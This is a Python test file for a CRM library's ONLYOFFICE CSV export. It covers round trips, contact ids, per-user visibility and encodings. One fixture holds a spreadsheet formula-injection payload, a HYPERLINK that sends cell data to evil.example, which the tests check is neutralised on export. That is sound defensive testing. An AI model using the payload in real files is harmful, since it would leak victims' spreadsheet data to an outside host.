"""ONLYOFFICE export: exact layout, round trips, ids, access."""

from __future__ import annotations

from pathlib import Path

import pytest

from crmdata import CrmDataError, Store
from crmdata.csvio.writer import CsvOptions
from crmdata.model import BASE_COLUMNS, INFO_CAPTIONS, INFO_COLUMNS

from .helpers import HEADERS, oo_text, write_oo

FULL = {h: "" for h in HEADERS}


def _every_column_row() -> dict[str, str]:
    """A person with a value in every one of the 84 info columns."""
    row = dict(FULL, **{"Company/Person": "Person", "First Name": "Zoë", "Last Name": "O'Neil",
                        "Company Name": "Zeta AG", "Position": "CTO", "Note": 'Says "hello", often',
                        "Contact Temperature Level": "Hot", "Contact Type": "Partner",
                        "Contact Tag List": "Customer,Lead"})
    for n, col in enumerate(INFO_COLUMNS):
        caption = col.caption
        if col.info_type.name == "EMAIL":
            row[caption] = f"zoe{n}@zeta.de,zoe{n}b@zeta.de"
        elif col.part:
            row[caption] = f"{col.part}-{col.category}"
        else:
            row[caption] = f"{col.info_type.name.lower()}-{n}"
    row["Score"] = "7"
    return row


ZETA = dict(FULL, **{"Company/Person": "Company", "Company Name": "Zeta AG"})


def test_header_is_the_onlyoffice_layout(store: Store, tmp_path: Path) -> None:
    store.export_onlyoffice(tmp_path / "out.csv")
    header = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header == ",".join(list(BASE_COLUMNS) + list(INFO_CAPTIONS))
    assert len(INFO_CAPTIONS) == 84
    assert INFO_CAPTIONS[:3] == ("Phone (home)", "Phone (work)", "Phone (mobile)")
    assert "Address (postal) street" in INFO_CAPTIONS and INFO_CAPTIONS[-1] == "VK (other)"


def test_file_with_all_94_columns_round_trips_exactly(tmp_path: Path) -> None:
    text = oo_text([ZETA, _every_column_row()], extra=["Score"])
    assert len(text.splitlines()[0].split(",")) == 94
    (tmp_path / "in.csv").write_text(text, encoding="utf-8")
    first = Store(tmp_path / "one.duckdb")
    report = first.import_onlyoffice(tmp_path / "in.csv")
    assert report.imported == 2 and not report.problems
    first.export_onlyoffice(tmp_path / "out1.csv")
    assert (tmp_path / "out1.csv").read_text(encoding="utf-8") == text
    second = Store(tmp_path / "two.duckdb")
    second.import_onlyoffice(tmp_path / "out1.csv")
    second.export_onlyoffice(tmp_path / "out2.csv")
    assert (tmp_path / "out2.csv").read_bytes() == (tmp_path / "out1.csv").read_bytes()


def test_with_ids_reimport_updates_those_contacts(store: Store, tmp_path: Path) -> None:
    store.import_onlyoffice(write_oo(tmp_path / "in.csv", [ZETA, dict(FULL, **{"First Name": "Ann"})]))
    store.export_onlyoffice(tmp_path / "ids.csv", with_ids=True)
    lines = (tmp_path / "ids.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("Id,Company/Person,")
    assert lines[2].startswith('"2","Person","Ann"')
    edited = lines[2].replace('"Ann","",""', '"Ann","Lee","Zeta AG"', 1)
    (tmp_path / "ids.csv").write_text("\n".join([lines[0], edited]) + "\n", encoding="utf-8")
    report = store.import_onlyoffice(tmp_path / "ids.csv")
    assert report.updated == 1 and report.imported == 0
    ann = store.contact(2)
    assert ann.display_name == "Ann Lee" and ann.fields["company"] == "Zeta AG"
    assert ann.fields["version"] == 2 and store.count() == 2


def test_with_ids_naming_a_missing_contact_is_refused(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "ids.csv"
    path.write_text("Id,First Name\n\"99\",\"Ghost\"\n\"x\",\"Bad\"\n", encoding="utf-8")
    with pytest.raises(CrmDataError) as err:
        store.import_onlyoffice(path)
    assert "line 3, Id: is not a contact id" in str(err.value)
    path.write_text("Id,First Name\n\"99\",\"Ghost\"\n", encoding="utf-8")
    with pytest.raises(CrmDataError, match="there is no contact 99"):
        store.import_onlyoffice(path)
    assert store.count() == 0


def test_export_shows_only_what_the_user_may_view(store: Store, tmp_path: Path) -> None:
    store.add_user("eve")
    store.import_onlyoffice(write_oo(tmp_path / "secret.csv", [ZETA]), share_type=0)
    store.import_onlyoffice(write_oo(tmp_path / "open.csv",
                                     [dict(FULL, **{"First Name": "Ann", "Company Name": "Zeta AG"})]))
    n = store.as_user("eve").export_onlyoffice(tmp_path / "eve.csv")
    text = (tmp_path / "eve.csv").read_text(encoding="utf-8")
    assert n == 1 and "Zeta" not in text and '"Ann"' in text


def test_export_to_a_missing_folder(store: Store, tmp_path: Path) -> None:
    with pytest.raises(CrmDataError, match="does not exist"):
        store.export_onlyoffice(tmp_path / "no" / "out.csv")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_cells_are_neutralised_and_the_round_trip_is_exact(tmp_path: Path) -> None:
    rows = [dict(ZETA, **{"Company Name": FORMULA, "Note": "@SUM(A1)", "Phone (work)": "+49 30 1234567",
                          "Contact Tag List": "-vip"}),
            dict(FULL, **{"Company/Person": "Person", "First Name": "''=own apostrophe", "Last Name": "-5"})]
    (tmp_path / "in.csv").write_text(oo_text(rows), encoding="utf-8")
    first = Store(tmp_path / "one.duckdb")
    assert first.import_onlyoffice(tmp_path / "in.csv").imported == 2
    assert FORMULA in set(first.contacts().display_name)  # the import stores what was written
    first.export_onlyoffice(tmp_path / "out1.csv")
    text = (tmp_path / "out1.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
    assert '"\'@SUM(A1)"' in text and '"\'+49 30 1234567"' in text and '"\'-vip"' in text
    assert '"\'\'=own apostrophe","-5"' in text
    second = Store(tmp_path / "two.duckdb")
    second.import_onlyoffice(tmp_path / "out1.csv")
    assert FORMULA in set(second.contacts().display_name)
    assert "'=own apostrophe -5" in set(second.contacts().display_name)
    second.export_onlyoffice(tmp_path / "out2.csv")
    assert (tmp_path / "out2.csv").read_bytes() == (tmp_path / "out1.csv").read_bytes()
    first.export_onlyoffice(tmp_path / "raw.csv", options=CsvOptions(raw=True))
    assert f'"{FORMULA.replace(chr(34), 2 * chr(34))}"' in (tmp_path / "raw.csv").read_text("utf-8")


def test_excel_export_round_trips(tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text(oo_text([dict(ZETA, Note="Grüße; bis bald"), ZETA | {
        "Company Name": "Łódź Sp. z o.o."}]), encoding="utf-8")
    first = Store(tmp_path / "one.duckdb")
    first.import_onlyoffice(tmp_path / "in.csv")
    first.export_onlyoffice(tmp_path / "excel.csv", options=CsvOptions.excel())
    raw = (tmp_path / "excel.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfCompany/Person;First Name;")
    assert b'"Gr\xc3\xbc\xc3\x9fe; bis bald"' in raw
    assert raw.count(b"\r\n") == 3
    second = Store(tmp_path / "two.duckdb")
    report = second.import_onlyoffice(tmp_path / "excel.csv")
    assert report.imported == 2 and "separator ';' (detected)" in report.summary()
    assert set(second.contacts().notes.dropna()) == {"Grüße; bis bald"}
    with pytest.raises(CrmDataError, match=r"'Ł' \(U\+0141\), which cp1252 cannot hold"):
        first.export_onlyoffice(tmp_path / "w.csv", options=CsvOptions(";", "cp1252", "\r\n"))
    assert not (tmp_path / "w.csv").exists()
